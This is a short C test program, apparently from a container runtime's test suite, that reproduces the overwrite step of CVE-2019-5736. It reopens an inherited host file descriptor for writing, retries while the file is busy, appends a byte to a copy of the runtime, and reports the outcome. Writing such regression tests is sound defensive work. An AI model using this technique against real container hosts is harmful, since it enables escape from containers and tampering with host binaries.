/*
 * overwrite - the second half of CVE-2019-5736: descriptor 3 is a file of the
 * host, and is opened once more, for writing. As long as somebody executes it
 * that is ETXTBSY, open(2); the attack is patient. The answer goes to /answer.
 *
 * The test lets it have a copy of the runtime, to which a byte is added.
 */
#include "attack.h"

int main(void)
{
    int fd = -1;
    for (int tries = 0; tries < 300 && fd < 0; tries++) {
        fd = open("/proc/self/fd/3", O_WRONLY | O_APPEND);
        if (fd >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    long r = fd < 0 ? fd : write(fd, "x", 1);
    if (freopen("/answer.new", "w", stdout) == NULL)
        return 2;
    attack_answer("write", r);
    fclose(stdout);
    return rename("/answer.new", "/answer") < 0;
}
